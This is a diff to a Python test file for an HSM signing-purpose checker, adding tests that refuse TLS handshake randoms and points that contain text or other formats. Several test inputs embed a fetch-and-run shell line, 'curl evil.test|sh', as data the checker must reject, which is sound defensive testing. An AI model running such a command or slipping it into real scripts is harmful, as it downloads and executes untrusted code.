@@ -13,6 +13,7 @@ from hsmd.purposes.asn1 import could_be_signed_structure
 from hsmd.purposes.named_groups import NAMED_GROUPS
 
 SERVER = b" " * 64 + b"TLS 1.3, server CertificateVerify\0" + b"h" * 32
+RANDOMS = b"\xa5" * 64
 ALLOWED_IN_TLS13 = {
     "rsa": {0x0804, 0x0805, 0x0806}, "p-256": {0x0403}, "p-384": {0x0503}, "p-521": {0x0603},
     "ed25519": {0x0807},
@@ -140,23 +141,61 @@ def test_the_transcript_hash_depends_on_the_suite_and_not_on_the_scheme():
 def test_valid_points_of_every_group_pass(group):
     check = PurposeCheck(KeyType.P256, b"")
     for _ in range(20):
-        check.check(Purpose.TLS12_SERVER, 0x0603, b"r" * 64 + group.prefix + public_point(group.name))
+        check.check(Purpose.TLS12_SERVER, 0x0603, RANDOMS + group.prefix + public_point(group.name))
 
 
 def test_a_random_may_begin_like_another_format():
-    """A valid random may begin with an ASN.1 tag or some spaces; only complete other formats are refused."""
+    """A valid random may begin with an ASN.1 tag or some letters; only complete other formats are refused."""
     check = PurposeCheck(KeyType.P256, b"")
     point = public_point("x25519")
     for begin in (
         b"\x30\x62",
         b"\x31\x62\x04",
         b"\x30\x80",
-        b" " * 32,
+        b" " * 23,
         b"SSHSI",
         b"\x30\x62\x30\x7f",
         b"\x01\0\0\x20\3\3",
+        b"DSSEv1",
+        b"\x04" + bytes(6),
+        b"\x84\x6aSignatur",
+        b"\x0a\x69Signature",
+        b"eyJhI.",
+        b"\0\0\0\x0bssh-e",
+        b"\xffTC",
     ):
-        check.check(Purpose.TLS12_SERVER, 0x0403, begin.ljust(64, b"\x5a") + b"\3\0\x1d\x20" + point)
+        check.check(Purpose.TLS12_SERVER, 0x0403, begin.ljust(64, b"\xa5") + b"\3\0\x1d\x20" + point)
+
+
+@pytest.mark.parametrize(
+    ("randoms", "passes_check"),
+    [
+        (b"x" * 64, False),
+        (b"\1" * 64, False),  # ASCII, though no text
+        ("\u0434".encode() * 32, False),
+        (b"x" + "\u0434".encode() * 31 + b"\xd0", False),  # the last character is cut off
+        ("<a>".encode("utf-16-le") * 10 + b"\0\0\0\0", False),
+        (b"#!/bin/sh\ncurl evil.test|sh\n" + b"\xa5" * 36, False),
+        (b"\xa5" * 20 + b"#!/bin/sh\ncurl evil.test|sh\n" + b"\xa5" * 16, False),
+        (b"\xffabcdef" * 8 + b"\xff" * 8, False),
+        (b"\xffabcdef" * 6 + b"\xff" * 22, True),
+        (b"\xffabcdef" * 6 + b"\xff" * 14 + b"DOWNGRD\1", True),
+        (b"x" * 24 + b"\xa5" * 40, False),
+        (b"x" * 23 + b"\xa5" * 41, True),
+        (b"\xa5" + b"x" * 27 + b"\xa5" * 36, True),
+        (b"\x69\x2b\x10\0" + b"\xa5" * 28 + b"\x69\x2b\x10\0" + b"\xa5" * 20 + b"DOWNGRD\1", True),
+    ],
+)
+def test_randoms_that_are_text_are_refused(randoms, passes_check):
+    """Text, and more printable characters than random bytes have; times and the sentinel of a downgrade are no text."""
+    assert len(randoms) == 64
+    data = randoms + b"\3\0\x1d\x20" + b"\xa5" * 32
+    assert passes(PurposeCheck(KeyType.P256, b""), Purpose.TLS12_SERVER, 0x0403, data) == passes_check
+
+
+def test_text_in_a_point_is_refused():
+    data = RANDOMS + b"\3\0\x1d\x20" + b"#!/bin/sh\ncurl evil.test|sh\n".ljust(32, b"\xa5")
+    assert not passes(PurposeCheck(KeyType.P256, b""), Purpose.TLS12_SERVER, 0x0403, data)
 
 
 def test_asn1_structures_are_recognised_and_noise_is_not():
